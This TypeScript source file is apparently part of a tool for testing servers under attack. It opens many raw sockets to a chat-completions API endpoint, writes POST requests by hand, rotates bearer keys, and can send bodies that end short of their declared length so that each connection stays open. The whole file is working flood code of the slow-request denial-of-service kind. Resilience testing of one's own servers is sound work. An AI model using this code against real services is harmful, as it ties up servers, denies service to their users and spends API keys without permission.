/** Connections that are written byte by byte, for attacks. */

import { connect, type Socket } from 'node:net'
import type { Target } from './attack.ts'

export interface Flood {
  readonly connections: number
  /** Beneath `/v1`; `/chat/completions` unless given. */
  readonly path?: string
  /** Header lines beside those of the host and the key, which say how long the body is; for each connection by its number. */
  readonly head: string | ((connection: number) => string)
  /** The pieces of one body. One that ends short of its length leaves the connection open until the server or `signal` ends it. */
  body(connection: number): AsyncIterable<string | Uint8Array> | Iterable<string | Uint8Array>
  /** A connection sends its next request no sooner than so long after its last; 1,000 unless given. */
  readonly everyMs?: number
}

const EVERY_MS = 1_000

/**
 * Keeps so many connections busy until `signal` is aborted, each with one request at a time over a connection of its own, the
 * keys of the target in turn. The pace is the same whatever the answers are, so that servers that answer at once get no more
 * bytes. Gives the answers by status; 0: none came.
 */
export async function rawFlood(
  target: Target,
  signal: AbortSignal,
  flood: Flood,
): Promise<ReadonlyMap<number, number>> {
  const byStatus = new Map<number, number>()
  const one = async (index: number) => {
    while (!signal.aborted) {
      const startedMs = performance.now()
      const key = target.keys[index % target.keys.length] ?? ''
      const status = await rawRequest(target, key, signal, flood, index)
      if (signal.aborted && status === 0) return
      byStatus.set(status, (byStatus.get(status) ?? 0) + 1)
      await pause(startedMs + (flood.everyMs ?? EVERY_MS) - performance.now(), signal)
    }
  }
  await Promise.all(Array.from({ length: flood.connections }, (_, index) => one(index)))
  return byStatus
}

function pause(milliseconds: number, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (milliseconds <= 0 || signal.aborted) return resolve()
    const end = () => {
      clearTimeout(timer)
      signal.removeEventListener('abort', end)
      resolve()
    }
    const timer = setTimeout(end, milliseconds)
    signal.addEventListener('abort', end, { once: true })
  })
}

/** Sends one request; resolves to the status of its answer's first line, 0 where the connection ended before. */
function rawRequest(target: Target, key: string, signal: AbortSignal, flood: Flood, index: number): Promise<number> {
  const { hostname, port, pathname } = new URL(target.url)
  const socket = connect(Number(port), hostname)
  return new Promise((resolve) => {
    const end = (status: number) => {
      signal.removeEventListener('abort', leave)
      socket.destroy()
      resolve(status)
    }
    const leave = () => end(0)
    signal.addEventListener('abort', leave, { once: true })
    socket.on('error', () => end(0))
    socket.on('close', () => end(0))
    let said = ''
    socket.on('data', (bytes) => {
      said += bytes.toString('latin1')
      const status = /^HTTP\/1\.1 (\d{3})/.exec(said)?.[1]
      if (status !== undefined && status !== '100') end(Number(status))
    })
    const head = typeof flood.head === 'string' ? flood.head : flood.head(index)
    socket.write(
      `POST ${pathname}${flood.path ?? '/chat/completions'} HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${key}\r\n${head}\r\n\r\n`,
    )
    void send(socket, flood.body(index))
  })
}

async function send(socket: Socket, pieces: ReturnType<Flood['body']>): Promise<void> {
  for await (const piece of pieces) {
    if (socket.destroyed) return
    if (socket.write(piece)) continue
    await new Promise<void>((resolve) => {
      socket.once('drain', resolve)
      socket.once('close', () => resolve())
    })
  }
}
